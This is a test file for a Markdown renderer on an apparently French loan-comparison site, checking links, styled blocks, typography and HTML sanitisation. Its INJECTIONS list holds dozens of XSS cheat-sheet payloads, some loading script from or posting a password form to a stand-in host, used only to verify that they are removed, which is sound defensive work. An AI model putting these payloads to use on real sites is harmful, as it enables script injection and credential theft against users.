import { describe, expect, it } from 'vitest';
import { BLOCK_STYLES, createMarkdownRenderer } from './unified-markdown-renderer.ts';

const renderer = createMarkdownRenderer({ siteUrl: 'https://pretscope.example' });
const render = (markdown: string) => renderer.render(markdown);
const fence = (info: string, content: string) => `\`\`\`${info}\n${content}\n\`\`\``;

describe('createMarkdownRenderer: markdown (spec §2)', () => {
  it('renders GFM: emphasis, lists and tables', async () => {
    const html = await render('**gras** et *italique*\n\n- un\n- deux\n\n| a | b |\n|---|--:|\n| 1 | 2 |');
    expect(html).toContain('<strong>gras</strong>');
    expect(html).toContain('<em>italique</em>');
    expect(html).toContain('<li>deux</li>');
    expect(html).toContain('<td align="right">2</td>');
  });

  it('wraps each table in a named region that takes the focus, so that a table wider than a phone scrolls with the keyboard', async () => {
    const html = await render('| a | b |\n|---|---|\n| 1 | 2 |\n\n<details><summary>Plus</summary>\n\n| c |\n|---|\n| 3 |\n\n</details>');
    expect(html.match(/<div class="md-table" role="region" aria-label="Tableau" tabindex="0"><table>/g)).toHaveLength(2);
    expect(html.match(/<\/table><\/div>/g)).toHaveLength(2);
  });

  it('keeps raw HTML that is harmless', async () => {
    const html = await render(
      'Texte <abbr title="Taux annuel effectif global">TAEG</abbr> et <kbd>Ctrl</kbd>\n\n<details><summary>Plus</summary>\n\nDétail\n\n</details>',
    );
    expect(html).toContain('<abbr title="Taux annuel effectif global">TAEG</abbr>');
    expect(html).toContain('<kbd>Ctrl</kbd>');
    expect(html).toContain('<details><summary>Plus</summary>');
  });

  it('turns bare URLs into links (auto-linking)', async () => {
    const html = await render('Voir https://www.bcl.lu et www.nbb.be ou écrire à contact@pretscope.example');
    expect(html).toContain('<a href="https://www.bcl.lu" target="_blank" rel="noopener noreferrer">https://www.bcl.lu</a>');
    expect(html).toContain('<a href="http://www.nbb.be" target="_blank" rel="noopener noreferrer">www.nbb.be</a>');
    expect(html).toContain('<a href="mailto:contact@pretscope.example">contact@pretscope.example</a>');
  });

  it('renders an empty document as nothing', async () => {
    expect(await render('')).toBe('');
  });
});

describe('createMarkdownRenderer: links that open in a new tab', () => {
  it('opens http and https links in a new tab without referrer or opener', async () => {
    expect(await render('[BCL](https://www.bcl.lu/)')).toBe(
      '<p><a href="https://www.bcl.lu/" target="_blank" rel="noopener noreferrer">BCL</a></p>',
    );
    expect(await render('[vieux](http://example.com)')).toContain('target="_blank" rel="noopener noreferrer"');
  });

  it('opens /go/ links in a new tab, marked sponsored', async () => {
    expect(await render('[Voir l’offre](/go/banque/pret-perso?id=3)')).toBe(
      '<p><a href="/go/banque/pret-perso?id=3" target="_blank" rel="sponsored noopener noreferrer">Voir l’offre</a></p>',
    );
  });

  it('keeps links within the site in the same tab, absolute ones included', async () => {
    expect(await render('[simulation](/pret-hypothecaire/simulation)')).toBe(
      '<p><a href="/pret-hypothecaire/simulation">simulation</a></p>',
    );
    expect(await render('[plus bas](#faq)')).toBe('<p><a href="#faq">plus bas</a></p>');
    expect(await render('[accueil](https://pretscope.example/articles)')).toBe(
      '<p><a href="https://pretscope.example/articles">accueil</a></p>',
    );
    expect(await render('[offre](https://pretscope.example/go/a/b?id=1)')).toContain('target="_blank" rel="sponsored noopener noreferrer"');
  });

  it('applies the same rules to links written in raw HTML', async () => {
    expect(await render('<a href="https://example.com">x</a>')).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(await render('<a href="/contact" target="_blank">x</a>')).toContain('<a href="/contact">x</a>');
    expect(await render('<a href="https://example.com" target="_top" rel="opener">x</a>')).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });
});

describe('createMarkdownRenderer: fenced block styles', () => {
  it.each(BLOCK_STYLES.filter((style) => style !== 'quote'))('renders a `%s` block as a styled box', async (style) => {
    const html = await render(fence(style, 'Un **contenu** en markdown.'));
    expect(html).toMatch(new RegExp(`^<div class="md-block md-block--${style}">`));
  });

  it('renders an info block with its markdown, links included', async () => {
    const html = await render(fence('info', '**Une marge existe.** Voir [le HCSF](https://www.economie.gouv.fr/).'));
    expect(html).toBe(
      '<div class="md-block md-block--info">\n<p><strong>Une marge existe.</strong> Voir <a href="https://www.economie.gouv.fr/" target="_blank" rel="noopener noreferrer">le HCSF</a>.</p>\n</div>',
    );
  });

  it('renders a warning block', async () => {
    expect(await render(fence('warning', 'Gardez une épargne de précaution.'))).toBe(
      '<div class="md-block md-block--warning">\n<p>Gardez une épargne de précaution.</p>\n</div>',
    );
  });

  it('renders a text block, keeping its paragraphs', async () => {
    const html = await render(fence('text', 'Taux d’effort = mensualités\n                ÷ revenus'));
    expect(html).toBe('<div class="md-block md-block--text">\n<p>Taux d’effort = mensualités\n÷ revenus</p>\n</div>');
  });

  it('renders a quote block as a blockquote', async () => {
    const html = await render(fence('quote', '« Faites-le chiffrer par le notaire. »\n\n— Claire Wagener'));
    expect(html).toBe(
      '<blockquote class="md-block md-block--quote">\n<p>«\u202fFaites-le chiffrer par le notaire.\u202f»</p>\n<p>— Claire Wagener</p>\n</blockquote>',
    );
  });

  it('renders a button block: its link becomes a button', async () => {
    expect(await render(fence('button', '[Calculer ma capacité d’emprunt](/pret-immobilier/outils/capacite-d-emprunt)'))).toBe(
      '<div class="md-block md-block--button">\n<p><a href="/pret-immobilier/outils/capacite-d-emprunt" class="md-button">Calculer ma capacité d’emprunt</a></p>\n</div>',
    );
    expect(await render(fence('button', '[Voir l’offre](/go/banque/produit?id=2)'))).toContain(
      '<a href="/go/banque/produit?id=2" class="md-button" target="_blank" rel="sponsored noopener noreferrer">Voir l’offre</a>',
    );
  });

  it('renders an image block: its image becomes a lazy figure captioned with the title', async () => {
    const html = await render(fence('image', '![Répartition d’un revenu](/images/articles/taux.svg "La règle des 35 %")'));
    expect(html).toBe(
      '<div class="md-block md-block--image">\n<figure class="md-figure"><img src="/images/articles/taux.svg" alt="Répartition d’un revenu" loading="lazy" decoding="async"><figcaption>La règle des 35\u00a0%</figcaption></figure>\n</div>',
    );
    expect(await render(fence('image', '![Sans titre](/a.png)'))).toContain(
      '<figure class="md-figure"><img src="/a.png" alt="Sans titre" loading="lazy" decoding="async"></figure>',
    );
  });

  it('accepts the info string in any case and with spaces', async () => {
    expect(await render('```  Warning  \nAttention\n```')).toContain('<div class="md-block md-block--warning">');
  });

  it('keeps any other fenced block a code block, escaped', async () => {
    expect(await render(fence('js', 'if (a < b) alert("x")'))).toBe(
      '<pre tabindex="0"><code class="language-js">if (a &#x3C; b) alert("x")\n</code></pre>',
    );
    expect(await render(fence('', '**pas du markdown**'))).toBe('<pre tabindex="0"><code>**pas du markdown**\n</code></pre>');
  });

  it('renders blocks nested with a longer fence', async () => {
    const html = await render(`\`\`\`\`info\nAvant\n\n${fence('warning', 'Dedans')}\n\`\`\`\``);
    expect(html).toContain('<div class="md-block md-block--info">');
    expect(html).toContain('<div class="md-block md-block--warning">\n<p>Dedans</p>\n</div>');
  });

  it('sanitizes the content of a styled block too', async () => {
    const html = await render(fence('info', '<img src=x onerror="alert(1)"> [x](javascript:alert(1))\n\n<script>alert(2)</script>'));
    expect(html).not.toMatch(/onerror|javascript:|<script|alert\(2\)/i);
    expect(html).toContain('<div class="md-block md-block--info">');
  });
});

/** Payloads from the usual XSS cheat sheets: none may leave a way to run script or style the page. */
const INJECTIONS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="alert(1)">',
  '<img src="x" ONERROR=alert(1)>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">clic</a>',
  '<a href="JaVaScRiPt:alert(1)">clic</a>',
  '<a href="jav&#x09;ascript:alert(1)">clic</a>',
  '<a href="&#106;avascript:alert(1)">clic</a>',
  '<a href=" javascript:alert(1)">clic</a>',
  '<a href="vbscript:msgbox(1)">clic</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
  '[clic](javascript:alert(1))',
  '[clic](<javascript:alert(1)>)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<img src="data:image/png;base64,AAAA">',
  '<p style="background:url(javascript:alert(1))">style</p>',
  '<div style="position:fixed;inset:0">style</div>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button>OK</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="#" onclick="alert(1)" onmouseover="alert(1)">x</a>',
  '<div id="__proto__" name="cookie">clobber</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<scr<script>ipt>alert(1)</script>',
  '```button\n[clic](javascript:alert(1))\n```',
  '```image\n![x](javascript:alert(1) "t")\n```',
];

describe('createMarkdownRenderer: injection is removed', () => {
  it.each(INJECTIONS)('%s', async (payload) => {
    const html = await render(`Avant\n\n${payload}\n\nAprès`);
    // Markup only: quoted attribute values are text (a title may well read "onerror=…").
    const markup = html.replace(/"[^"]*"/g, '""');
    expect(markup).not.toMatch(/<(script|iframe|object|embed|svg|math|style|link|meta|base|form|textarea|template|body|button|select)\b/i);
    // The one input GFM task lists need: a disabled checkbox.
    for (const input of markup.match(/<input\b[^>]*>/gi) ?? []) expect(input).toMatch(/^<input( name="")? disabled type="">$/);
    expect(markup).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/(href|src|action|data|srcdoc)\s*=\s*"\s*(javascript|vbscript|data):/i);
    expect(html).not.toMatch(/srcdoc|style=/i);
    expect(html).not.toMatch(/\sid="(?!user-content-)/);
    expect(html).toContain('Avant');
    expect(html).toContain('Après');
  });
});

describe('createMarkdownRenderer: French typography (issue 20)', () => {
  it('sets the text of the content in French typography', async () => {
    const html = await render("Droits d'enregistrement : **3,20 %** sur 24 mois, soit 1 874,04 € ! Le « TAEG » ? Oui ; voilà.");
    expect(html).toBe(
      '<p>Droits d’enregistrement\u00a0: <strong>3,20\u00a0%</strong> sur 24\u00a0mois, soit 1\u202f874,04\u00a0€\u202f! ' +
        'Le «\u202fTAEG\u202f»\u202f? Oui\u202f; voilà.</p>',
    );
  });

  it('sets ordinals with their suffix in superscript', async () => {
    expect(await render('Le 1er janvier, la 2e année, au XXe siècle.')).toBe(
      '<p>Le 1<sup>er</sup>\u00a0janvier, la 2<sup>e</sup> année, au XX<sup>e</sup> siècle.</p>',
    );
  });

  it('leaves code, links’ addresses, URLs and times as written', async () => {
    const html = await render(
      "Tapez `l'option : 1er` puis https://example.com/a?b=1 à 10:30.\n\n```\nconst a = 'b' ; // 3 %\n```\n\n[l'offre](https://example.com/l'offre?x=1)",
    );
    expect(html).toContain("<code>l'option : 1er</code>");
    expect(html).toContain(
      '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">https://example.com/a?b=1</a> à 10:30.',
    );
    expect(html).toContain("const a = 'b' ; // 3 %");
    expect(html).toContain('<a href="https://example.com/l&#x27;offre?x=1" target="_blank" rel="noopener noreferrer">l’offre</a>');
  });

  it('sets styled blocks and raw HTML text too', async () => {
    expect(await render(fence('info', 'Attention : 20 ans !'))).toContain('Attention\u00a0: 20\u00a0ans\u202f!');
    expect(await render('<p>Taux : 3 %</p>')).toBe('<p>Taux\u00a0: 3\u00a0%</p>');
  });
});
